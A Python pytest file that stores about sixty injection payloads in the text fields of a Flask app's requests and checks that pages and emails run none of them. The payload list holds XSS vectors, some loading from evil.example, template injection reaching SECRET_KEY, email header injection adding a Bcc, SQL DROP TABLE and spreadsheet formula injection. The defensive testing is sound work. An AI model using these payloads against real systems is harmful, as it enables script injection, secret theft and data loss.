"""F-31: sixty payloads in every text of a request are shown on its pages and in its mails, and none does anything."""

from __future__ import annotations

import email
import email.policy
import shutil
from typing import Any

import html5lib
import pytest
from flask import Flask
from playwright.sync_api import Route, sync_playwright

from app.core.db import db, utc_now, writing
from app.core.mail import Mail, post
from app.country_requests.messages import after_sending
from app.country_requests.models import CountryRequest
from tests.browser import Browser, Page, inspect
from tests.chromium import FLAGS
from tests.country_requests.conftest import as_, people  # noqa: F401 - fixtures
from tests.country_requests.walking import NEEDED, acting, begin, facts, fill, send_off, submit

RUN = "window.ran=1"
PAYLOADS = [
    f"<script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</script>", "<script src=https://evil.example/x.js></script>", f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">', f"'><img src=x onerror='{RUN}'>", f"<svg onload={RUN}>", f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>", f"<body onload={RUN}>", f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>", f"<input autofocus onfocus={RUN}>", f"<marquee onstart={RUN}>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>", f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>', f'<a href="javascript:{RUN}" autofocus>x</a>',
    f'<form action="javascript:{RUN}"><button>x</button></form>', "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/x>",
    "<style>*{background:url(https://evil.example/)}</style>", '<p style="position:fixed;inset:0">x</p>',
    f'<div hx-get="/x" hx-trigger="load" hx-on:load="{RUN}">x</div>', '<div data-hx-get="https://evil.example">x</div>',
    f"<object data=javascript:{RUN}></object>", f"<embed src=javascript:{RUN}>", f'" autofocus onfocus="{RUN}',
    f"' autofocus onfocus='{RUN}", f"` onmouseover={RUN}", f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "{{ 7*19100003 }}", "{{ config.SECRET_KEY }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*19100003}", "#{7*19100003}", "<%= 7*19100003 %>", "%(secret)s %s %d %n",
    "{0.__class__}", "{number}", "\\u003cscript\\u003e",
    "&lt;script&gt;", "&#60;script&#62;", "%3Cscript%3E", "＜script＞", "\u202e<script>", "a\r\nX-Injected: yes",
    "a\nBcc: victim@evil.example", "a\r\n\r\n<script>", "a%0d%0aX-Injected: yes", "a\u2028X-Injected: yes",
    "'; DROP TABLE person; --", "=cmd|' /C calc'!A0", "\x00<script>\x00", "=?utf-8?q?X?=", "<!--#exec cmd='ls'-->",
]  # fmt: skip
TEXTS = (
    "institution", "ministry", "title", "problem", "who_is_affected", "where", "causes", "efforts", "plan_reference",
    "outcome", "indicators", "practical_requirements", "absorptive_capacity", "sustainability", "monitoring",
)  # fmt: skip
WATCH = """
window.reports = [];
document.addEventListener("securitypolicyviolation", (e) =>
  window.reports.push(e.violatedDirective + " " + e.blockedURI));
"""


def stored_requests(app: Flask, by: int) -> list[int]:
    """Each payload stands in each text of some request: the payloads go round."""
    numbers = []
    with app.test_request_context():
        for start in range(0, len(PAYLOADS), 10):
            texts = {name: PAYLOADS[(start + place) % len(PAYLOADS)] for place, name in enumerate(TEXTS)}
            texts = {name: text.replace("\x00", "") for name, text in texts.items()}
            with writing() as session:
                row = submit(session, facts(**texts), by=acting("focal-point", "XA", by), now=utc_now())
                for message in after_sending(session, row, now=utc_now()):
                    post(session, message, now=utc_now())
                numbers.append(row.key)
    return numbers


def written_by_hand(amina: Browser) -> list[str]:
    """One more through the front door, and the pages of its draft on the way."""
    draft = begin(amina)
    fill(amina, draft, *NEEDED)
    for name, field in (("title", "title"), ("problem", "problem"), ("asking", "institution")):
        for payload in PAYLOADS[:3]:
            page = amina.get(f"{draft}/{name}")
            amina.submit(page, {field: payload}, action=f"/{name}")
    pages = [draft, f"{draft}/title", f"{draft}/problem", f"{draft}/check", f"{draft}/print", f"{draft}/delete"]
    kept = [amina.get(page).html for page in pages]
    sent = send_off(amina, draft)
    return [*kept, sent.html]


def all_pages(as_: Any, numbers: list[int]) -> list[str]:  # noqa: F811
    amina, carla = as_("amina"), as_("carla")
    html = written_by_hand(amina)
    for number in numbers:
        paths = [f"/en/requests/{number}", f"/en/requests/{number}/close", f"/en/requests/{number}/matches"]
        for browser in (amina, carla):
            for path in paths[: 3 if browser is amina else 1]:
                page = Page(browser.client.get(path, follow_redirects=True))
                if page.status == 200:
                    inspect(page)
                    html.append(page.html)
    html += [amina.get(path).html for path in ("/en/requests/mine", "/ar/requests", "/en/requests?q=script")]
    return html


def check_mails(app: Flask) -> None:
    """One set of headers, no more; no element in the HTML part that does anything."""
    with app.app_context():
        contents = [mail.content for mail in db.session.query(Mail)]
    assert len(contents) > 5
    for content in contents:
        head = content.partition(b"\r\n\r\n")[0]
        assert b"\n" not in head.replace(b"\r\n", b"")
        mail = email.message_from_bytes(content, policy=email.policy.default)
        assert not {"X-Injected", "Bcc"} & set(mail.keys())
        root = html5lib.parse(mail.get_body(("html",)).get_content(), namespaceHTMLElements=False)  # type: ignore[union-attr]
        for element in root.iter():
            assert element.tag not in {"script", "iframe", "img", "svg", "object", "embed", "form", "base"}, element.tag
            assert not [name for name in element.attrib if str(name).startswith(("on", "hx-", "data-hx"))]


@pytest.mark.browser
def test_no_payload_runs_or_asks_for_anything(app: Flask, as_: Any, people: dict[str, int]) -> None:  # noqa: F811
    assert len(PAYLOADS) >= 60
    pages = all_pages(as_, stored_requests(app, people["amina"]))
    check_mails(app)
    with app.app_context():
        assert db.session.query(CountryRequest).count() > 7
    shown = "".join(pages)
    assert app.config["SECRET_KEY"] not in shown
    assert "133700021" not in "".join(page.replace("7*19100003", "") for page in pages), (
        "no template worked anything out"
    )
    headers = dict(app.test_client().get("/en/").headers)
    chromium = shutil.which("chromium")
    if chromium is None:
        pytest.skip("Chromium is missing: `make install` says how to have it")
    asked: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=FLAGS)
        page = browser.new_page()
        page.add_init_script(WATCH)
        current = {"html": ""}

        def answer(route: Route) -> None:
            url = route.request.url
            if url == "http://localhost/page":
                route.fulfill(body=current["html"], headers={**headers, "Content-Type": "text/html; charset=utf-8"})
                return
            if "/static/" not in url:
                asked.append(url)
            route.abort()

        page.route("**/*", answer)
        page.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
        for html in pages:
            current["html"] = html
            page.goto("http://localhost/page", wait_until="domcontentloaded")
            found = page.evaluate("[window.ran || 0, window.reports, location.href]")
            assert found == [0, [], "http://localhost/page"], html[:300]
        browser.close()
    assert [url for url in asked if not url.endswith("/favicon.ico")] == []
